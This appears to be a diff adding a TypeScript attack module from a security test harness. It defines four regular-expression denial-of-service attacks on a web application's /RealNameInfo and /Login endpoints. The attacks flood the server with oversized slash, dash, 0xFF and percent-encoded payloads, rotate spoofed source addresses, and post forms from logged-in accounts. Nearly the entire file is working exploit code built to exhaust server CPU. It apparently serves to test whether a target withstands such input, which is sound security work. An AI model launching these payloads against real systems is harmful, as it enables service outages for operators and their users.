@@ -1,0 +1,97 @@
+import { setTimeout as wait } from "node:timers/promises";
+import type { Attack, Target } from "./attack";
+import { attackerAddress, formHeaders, headOf, repeat, statusFor, visitorOf } from "./wires";
+
+/** Texts for which a regular expression takes the square of their length. */
+
+const STRIKE_MS = 8_000;
+const DETAILS_PATH = "/RealNameInfo?country=158";
+
+/** A request of 12 kB, so often that it makes 154 kB a second. */
+const SLASHES_EVERY_MS = 78;
+
+async function slashes(target: Target): Promise<string[]> {
+  const request = headOf(target, `GET /a${"/".repeat(12_000)}a`, { Connection: "close" });
+  const asked: Promise<unknown>[] = [];
+  for (const untilMs = performance.now() + STRIKE_MS; performance.now() < untilMs;) {
+    asked.push(statusFor(target, request, { from: attackerAddress(asked.length % 50), deadlineMs: 10_000 }));
+    await wait(SLASHES_EVERY_MS);
+  }
+  await Promise.all(asked);
+  return [];
+}
+
+/** Two accounts post the form of an identity one after the other. */
+async function prepareDashes(target: Target) {
+  const visitors = target.accounts.map((cookie, index) =>
+    visitorOf(target, `ulan=en_US; ${cookie}`, attackerAddress(index + 1)),
+  );
+  const pages = await Promise.all(visitors.map((visitor) => visitor.open(DETAILS_PATH)));
+  const person = { familyName: "Siege", name: "Guest", certificateType: "2" };
+  const certificateNumber = `A${"-".repeat(60_000)}A`;
+  return async () => {
+    await Promise.all(
+      visitors.map((visitor, index) =>
+        repeat({ atATime: 1, forMs: STRIKE_MS, times: 5 }, async () => {
+          const page = pages[index];
+          if (!page) return;
+          const fields = { ...person, certificateNumber, numberCode: page.field("numberCode") };
+          await visitor.submit(DETAILS_PATH, fields, page).catch((error: unknown) => error);
+        }),
+      ),
+    );
+    return [];
+  };
+}
+
+/** No session, no token. */
+async function postBytes(target: Target, body: Buffer): Promise<string[]> {
+  const head = headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": body.length });
+  const request = Buffer.concat([Buffer.from(head), body]);
+  await repeat({ atATime: 3, forMs: STRIKE_MS, times: 200 }, (number) =>
+    statusFor(target, request, { from: attackerAddress(number % 50), deadlineMs: 10_000 }),
+  );
+  return [];
+}
+
+/**
+ * Four fields, each of which does not fit: the beginning of such a field is read, and an end that is half a character
+ * is taken off.
+ */
+const CUT_FIELDS = Buffer.concat(
+  [70_000, 50_000, 34_000, 18_000].flatMap((bytes, index) => [
+    Buffer.from(`${index === 0 ? "" : "&"}a=`),
+    Buffer.alloc(16_300, 0xff),
+    Buffer.alloc(bytes - 16_300, "b"),
+  ]),
+);
+const KB_60 = 60_000;
+
+export const EXPRESSIONS: readonly Attack[] = [
+  {
+    name: "path-slashes",
+    item: "7",
+    sent: "GET /a////…/a of 12 kB at 154 kB/s",
+    mustLogNoError: true,
+    prepare: (target) => Promise.resolve(() => slashes(target)),
+  },
+  {
+    name: "certificate-dashes",
+    item: "7",
+    sent: "10 × `certificateNumber` of 60,000 dashes to /RealNameInfo",
+    accounts: 2,
+    prepare: prepareDashes,
+  },
+  {
+    name: "login-0xff",
+    item: "7",
+    sent: "200 × 170 kB of 0xFF and letters to /Login",
+    prepare: (target) => Promise.resolve(() => postBytes(target, CUT_FIELDS)),
+  },
+  {
+    name: "login-percent",
+    item: "7",
+    sent: "200 × 60 kB of `%ff` and of `+` to /Login",
+    prepare: (target) => Promise.resolve(() => postBytes(target, Buffer.from(`a=${"%ff+".repeat(KB_60 / 4)}`))),
+  },
+];
